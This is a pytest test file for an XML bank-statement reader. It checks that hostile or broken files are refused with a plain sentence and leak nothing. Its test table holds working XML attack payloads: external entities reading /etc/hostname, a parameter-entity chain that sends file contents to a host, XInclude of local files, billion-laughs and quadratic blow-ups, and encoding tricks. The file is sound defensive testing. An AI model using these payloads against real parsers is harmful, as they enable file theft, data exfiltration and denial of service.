"""Hostile, broken and wrong files: each is refused with a sentence, and none leaks or reaches anything."""

from __future__ import annotations

import io
import json
import re
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

from reconciliation.formats import camt, detect, mt940, ofx, xml
from reconciliation.inspection import inspect
from reconciliation.statement import UnreadableFile
from tests.factories.camt import camt053, credit

CANARY = "canary-7f3a-of-a-file-that-must-stay-secret"
NAMESPACE = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"
GOOD = camt053([credit(1250, name="Anna Beispiel", remittance="RE-1")])
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
SENTENCE = re.compile(r"['A-Z0-9].{10,200}\.", re.DOTALL)


def statement(content: str) -> str:
    """A readable statement but for `content`, which stands in the text of its only line."""
    return (
        f'<Document xmlns="{NAMESPACE}"><BkToCstmrStmt><Stmt>'
        "<Acct><Id><IBAN>DE89370400440532013000</IBAN></Id><Ccy>EUR</Ccy></Acct>"
        '<Ntry><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>'
        f"<NtryDtls><TxDtls><RmtInf><Ustrd>{content}</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>"
        "</Stmt></BkToCstmrStmt></Document>"
    )


def declared(subset: str, content: str = "&x;", head: str = HEAD) -> bytes:
    return f"{head}<!DOCTYPE Document {subset}>\n{statement(content)}".encode()


def laughs() -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return declared(f'[<!ENTITY l0 "ha">{levels}]', "&l9;")


def in_encoding(encoding: str, declared_as: str | None = None) -> bytes:
    text = declared("[<!ENTITY x 'y'>]").decode().replace("UTF-8", declared_as or encoding)
    return text.encode(encoding)


DOCUMENT_TYPE = "document type"
ENTITY = "refers to an entity"
ENCODING = "encoding"
CUT_OFF = "cut off"

# What a file is -> its bytes, and words of the sentence that refuses it.
HOSTILE: dict[str, tuple[bytes, str]] = {
    "entity from a file": (declared('[<!ENTITY x SYSTEM "file:///etc/hostname">]'), DOCUMENT_TYPE),
    "entity from the network": (declared('[<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]'), DOCUMENT_TYPE),
    "entity from a share": (declared('[<!ENTITY x SYSTEM "//evil.example/share/x">]'), DOCUMENT_TYPE),
    "public entity": (declared('[<!ENTITY x PUBLIC "-//X//EN" "http://127.0.0.1:9/x">]'), DOCUMENT_TYPE),
    "unparsed entity": (declared('[<!ENTITY x SYSTEM "file:///etc/hostname" NDATA n>]', "x"), DOCUMENT_TYPE),
    "external document type": (declared('SYSTEM "http://127.0.0.1:9/x.dtd"', "x"), DOCUMENT_TYPE),
    "public document type": (declared('PUBLIC "-//X//EN" "file:///etc/hostname"', "x"), DOCUMENT_TYPE),
    "empty document type": (declared("", "x"), DOCUMENT_TYPE),
    "parameter entity": (
        declared('[<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]', "x"),
        DOCUMENT_TYPE,
    ),
    "parameter entity that sends a file out": (
        declared(
            '[<!ENTITY % f SYSTEM "file:///etc/hostname">'
            "<!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %e; %s;]",
            "x",
        ),
        DOCUMENT_TYPE,
    ),
    "attribute default": (declared('[<!ATTLIST Amt Ccy CDATA "EUR">]', "x"), DOCUMENT_TYPE),
    "billion laughs": (laughs(), DOCUMENT_TYPE),
    "quadratic blow-up": (
        declared(f'[<!ENTITY x "{"A" * 50_000}">]', "&x;" * 5_000),
        DOCUMENT_TYPE,
    ),
    "entity that names itself": (declared('[<!ENTITY x "&x;">]'), DOCUMENT_TYPE),
    "document type after a comment": (
        declared("[<!ENTITY x 'y'>]", head=HEAD + "<!-- > <!x> -->"),
        DOCUMENT_TYPE,
    ),
    "document type after an instruction": (
        declared("[<!ENTITY x 'y'>]", head=HEAD + "<?a <Document> ?>\n\n"),
        DOCUMENT_TYPE,
    ),
    "document type without a declaration": (declared("[<!ENTITY x 'y'>]", head=""), DOCUMENT_TYPE),
    "document type after a byte order mark": (b"\xef\xbb\xbf" + declared("[]"), DOCUMENT_TYPE),
    "document type in UTF-16": (in_encoding("utf-16"), DOCUMENT_TYPE),
    "document type in UTF-16 little endian": (in_encoding("utf-16-le", "UTF-16"), DOCUMENT_TYPE),
    "document type in UTF-16 big endian": (in_encoding("utf-16-be", "UTF-16"), DOCUMENT_TYPE),
    "document type in Latin-1": (in_encoding("iso-8859-1"), DOCUMENT_TYPE),
    "document type in UTF-32": (in_encoding("utf-32"), ENCODING),
    "document type in UTF-32 without a mark": (in_encoding("utf-32-be", "UTF-32"), ENCODING),
    "document type in UTF-7": (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<Document/>',
        ENCODING,
    ),
    "document type in EBCDIC": (in_encoding("cp037"), ENCODING),
    "EBCDIC that is ASCII": (
        statement("x").encode().replace(b"<", b'<?xml version="1.0" encoding="cp037"?><', 1),
        ENCODING,
    ),
    "an encoding nobody knows": (b'<?xml version="1.0" encoding="X-KLINGON"?><Document/>', ENCODING),
    "a codec that is no encoding": (b'<?xml version="1.0" encoding="base64"?><Document/>', ENCODING),
    "document type behind a long comment": (
        declared("[<!ENTITY x 'y'>]", head=HEAD + f"<!--{'x' * 70_000}-->"),
        "first 64 KB",
    ),
    "entity that nobody declared": (statement("&x;").encode(), ENTITY),
    "entity in an attribute": (
        statement("x").replace('Ccy="EUR"', 'Ccy="&x;"').encode(),
        ENTITY,
    ),
    "an included file": (
        statement(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>'
        ).encode(),
        "include another file",
    ),
    "an included text": (
        statement(
            '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="http://127.0.0.1:9/" parse="text"/>'
        ).encode(),
        "include another file",
    ),
    "depth of 100,000": (
        f'<Document xmlns="{NAMESPACE}"><BkToCstmrStmt>{"<a>" * 100_000}'.encode(),
        "too deep",
    ),
    "depth of 100,000 in an entry": (statement("<a>" * 100_000 + "</a>" * 100_000).encode(), "too deep"),
    "a text of 11 MB": (statement("x" * 11_000_000).encode(), "over 10 MB"),
    "a CDATA section of 11 MB": (statement(f"<![CDATA[{'x' * 11_000_000}]]>").encode(), "text section"),
    "an attribute of 11 MB": (
        statement("x").replace('Ccy="EUR"', f'Ccy="{"x" * 11_000_000}"').encode(),
        "over 10 MB",
    ),
    "a comment of 11 MB": (statement(f"<!--{'x' * 11_000_000}-->").encode(), "comment"),
    "a name of 1 MB": (statement(f"<{'x' * 1_000_000}/>").encode(), "name that is too long"),
    "a namespace of 9 MB": (
        statement(f'<p:a xmlns:p="{"x" * 9_000_000}"/>').encode(),
        "namespace that is too long",
    ),
    "a NUL in the text": (statement("x\0y").encode(), "character that XML does not allow"),
    "a NUL at the start": (b"\0" + GOOD, "holds no XML"),
    "a control character": (statement("x\x08y").encode(), "character that XML does not allow"),
    "a control character by number": (statement("&#8;").encode(), "character that XML does not allow"),
    "a character beyond Unicode": (statement("&#x110000;").encode(), "character that XML does not allow"),
    "Latin-1 that claims to be UTF-8": (GOOD.replace(b"Anna", b"J\xfcrgen"), "do not belong to the encoding"),
    "UTF-8 cut within a letter": (statement("ü").encode().replace(b"\xc3\xbc", b"\xc3"), "encoding"),
    "ASCII with an umlaut": (
        b'<?xml version="1.0" encoding="US-ASCII"?>' + statement("ü").encode(),
        "encoding",
    ),
    "a tag closed twice": (GOOD.replace(b"</Ntry>", b"</Ntry></Ntry>"), "closed that is not the one last"),
    "tags crossed": (
        GOOD.replace(b"</Ustrd>\n</RmtInf>", b"</RmtInf></Ustrd>"),
        "closed that is not the one",
    ),
    "an attribute twice": (GOOD.replace(b'Ccy="EUR"', b'Ccy="EUR" Ccy="USD"'), "not well-formed"),
    "an attribute without quotes": (GOOD.replace(b'"EUR"', b"EUR"), "not well-formed"),
    "a prefix nobody explained": (statement("<x:a/>").encode(), "prefix that it never explains"),
    "two documents": (GOOD + GOOD.split(b"\n", 1)[1], "goes on behind its last element"),
    "no element at all": (b"< no element", "not well-formed"),
    "text behind the document": (GOOD + b"<!-- ok -->\nmore", "goes on behind its last element"),
}


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a file reached for the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)


def error_of(content: bytes) -> dict[str, object]:
    (only,) = inspect(io.BytesIO(content), name="upload.xml")
    assert set(only) == {"file", "error"}
    assert only["error"]["code"] == "unreadable_file"
    assert SENTENCE.fullmatch(only["error"]["message"])
    return dict(only["error"])


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_or_broken_file_is_refused_with_a_reason(case: str) -> None:
    content, words = HOSTILE[case]
    assert words in str(error_of(content)["message"])


@pytest.mark.parametrize("case", HOSTILE)
def test_the_reader_refuses_it_too_when_called_without_detection(case: str) -> None:
    content, words = HOSTILE[case]
    with pytest.raises(UnreadableFile) as caught:
        list(camt.read(io.BytesIO(content)))
    assert words in caught.value.message


@pytest.mark.parametrize("case", HOSTILE)
def test_parsing_it_whole_is_refused_too(case: str) -> None:
    content, words = HOSTILE[case]
    with pytest.raises(UnreadableFile) as caught:
        xml.parse(content)
    assert words in caught.value.message


@pytest.mark.parametrize(
    ("subset", "content"),
    [
        ('[<!ENTITY x SYSTEM "{uri}">]', "&x;"),
        ('[<!ENTITY x SYSTEM "{path}">]', "&x;"),
        ('SYSTEM "{uri}"', "x"),
        ('[<!ENTITY % p SYSTEM "{uri}"> %p;]', "x"),
        (None, '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{uri}" parse="text"/>'),
    ],
)
@pytest.mark.parametrize("read", [xml.parse, lambda content: list(camt.read(io.BytesIO(content)))])
def test_no_file_of_the_machine_ever_leaks(
    tmp_path: Path, subset: str | None, content: str, read: Callable[[bytes], object]
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(CANARY)
    places = {"uri": secret.as_uri(), "path": str(secret)}
    body = content.format(**places)
    hostile = declared(subset.format(**places), body) if subset else statement(body).encode()
    with pytest.raises(UnreadableFile) as caught:
        read(hostile)
    told = json.dumps([str(caught.value), caught.value.message, caught.value.facts], default=str)
    assert CANARY not in told + json.dumps(inspect(io.BytesIO(hostile), name="x"))


@pytest.fixture
def secret(tmp_path: Path) -> str:
    place = tmp_path / "secret.txt"
    place.write_text(CANARY)
    return place.as_uri()


@pytest.fixture
def blind(monkeypatch: pytest.MonkeyPatch) -> None:
    """As if the look at the beginning of a file saw nothing."""
    monkeypatch.setattr(xml, "refuse_document_type", lambda head: None)


@pytest.mark.usefixtures("blind")
@pytest.mark.parametrize("subset", ['[<!ENTITY x SYSTEM "{secret}">]', '[<!ENTITY x "y">]', "", "[]"])
def test_a_document_type_that_the_first_look_misses_is_refused_by_the_parser(
    subset: str, secret: str
) -> None:
    hostile = declared(subset.format(secret=secret), "&x;" if "ENTITY" in subset else "x")
    given: list[object] = []
    with pytest.raises(UnreadableFile, match=DOCUMENT_TYPE):
        given.extend(camt.read(io.BytesIO(hostile)))
    with pytest.raises(UnreadableFile, match=DOCUMENT_TYPE):
        xml.parse(hostile)
    assert given == []


@pytest.mark.usefixtures("blind")
def test_a_document_type_around_nothing_is_refused_by_the_parser() -> None:
    with pytest.raises(UnreadableFile, match=DOCUMENT_TYPE):
        list(xml.iterate(io.BytesIO(b"<!DOCTYPE a><a/>"), tags=("{*}b",)))


@pytest.mark.usefixtures("blind")
def test_an_entity_that_every_look_misses_still_fetches_nothing(
    monkeypatch: pytest.MonkeyPatch, secret: str
) -> None:
    monkeypatch.setattr(xml, "_refuse_declarations", lambda element: None)
    hostile = declared(f'[<!ENTITY x SYSTEM "{secret}">]', "before &x; after")
    assert CANARY not in repr(list(camt.read(io.BytesIO(hostile))))
    assert CANARY not in "".join(str(part) for part in xml.parse(hostile).itertext())


def test_the_message_never_quotes_the_file() -> None:
    for content, _ in HOSTILE.values():
        told = json.dumps(error_of(content))
        assert "Anna" not in told
        assert "hostname" not in told
        assert "127.0.0.1" not in told


# --- cut off on its way ---


@pytest.mark.parametrize("share", range(0, 100, 4))
def test_a_file_cut_off_anywhere_is_refused(share: int) -> None:
    at = len(GOOD) * share // 100
    error_of(GOOD[:at])


def test_a_file_cut_off_at_any_byte_of_its_end_is_refused() -> None:
    whole = GOOD.rstrip()
    for at in range(len(whole) - 200, len(whole)):
        error_of(whole[:at])
    assert "error" not in inspect(io.BytesIO(whole), name="x")[0]


def test_a_file_cut_off_between_entries_gives_none_of_them() -> None:
    content = camt053([credit(100 + number) for number in range(2000)])
    cut = content[: content.rindex(b"<Ntry>")]
    error = error_of(cut)
    assert CUT_OFF in str(error["message"])
    assert error["line"] == cut.count(b"\n") + 1


def test_an_error_in_the_second_statement_refuses_the_first_too() -> None:
    inner = GOOD[GOOD.index(b"<Stmt>") : GOOD.index(b"</BkToCstmrStmt>")]
    content = GOOD.replace(inner, inner + inner.replace(b">1000.00", b">1000,00"))
    assert "'1000,00' is not an amount" in str(error_of(content)["message"])


def test_the_place_of_an_error_is_told() -> None:
    content, _ = HOSTILE["tags crossed"]
    at = content.index(b"</RmtInf></Ustrd>")
    assert error_of(content)["line"] == content.count(b"\n", 0, at) + 1
    assert error_of(declared("[]"))["line"] == 2


# --- something else altogether ---


def test_the_reader_is_found_for_a_statement_and_for_nothing_else() -> None:
    assert detect.identified(GOOD)[1] is camt
    assert (
        detect.identified(b":20:X\r\n:25:37040044/0532013000\r\n:28C:1/1\r\n:60F:C260105EUR1,00\r\n")[1]
        is mt940
    )
    assert detect.identified(b"OFXHEADER:100\r\nDATA:OFXSGML\r\nVERSION:102\r\n\r\n<OFX>")[1] is ofx
    with pytest.raises(UnreadableFile, match="a PDF document"):
        detect.identified(b"%PDF-1.7\n")


def test_a_stub_of_a_statement_holds_none() -> None:
    content = f'<?xml version="1.0"?><Document xmlns="{NAMESPACE}"></Document>'
    assert error_of(content.encode())["message"] == "The file holds no statement."
